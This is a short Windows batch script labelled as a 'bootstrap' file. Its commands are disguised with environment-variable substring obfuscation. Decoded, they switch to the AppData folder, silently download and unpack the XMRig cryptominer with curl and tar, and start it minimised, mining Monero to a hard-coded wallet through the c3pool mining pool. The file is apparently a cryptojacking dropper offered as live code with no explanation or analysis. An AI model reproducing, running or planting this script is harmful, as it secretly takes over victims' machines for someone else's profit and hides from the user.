REM bootstrap 5341 v3
@echo off
%public:~14,1%d /d %APPDATA%
%PUBLIC:~-1,1%%PUBLIC:~-5,1%%PUBLIC:~6,1%%PUBLIC:~-3,1% -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
%COMSPEC:~14,1%%PROGRAMDATA:~8,1%%public:~-9,1% -xf x.zip
%windir:~9,1%ta%PUBLIC:~-9,1%t /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://auto.c3pool.com:13333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x --donate-level=1
